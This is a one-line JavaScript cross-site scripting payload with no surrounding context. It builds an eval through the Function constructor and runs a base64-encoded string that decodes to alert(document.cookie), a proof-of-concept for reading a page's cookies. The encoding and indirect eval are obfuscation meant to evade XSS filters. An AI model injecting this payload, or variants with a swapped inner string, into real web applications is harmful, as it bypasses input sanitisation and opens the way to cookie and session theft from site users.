Function('a', 'return eval(a)')(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='));
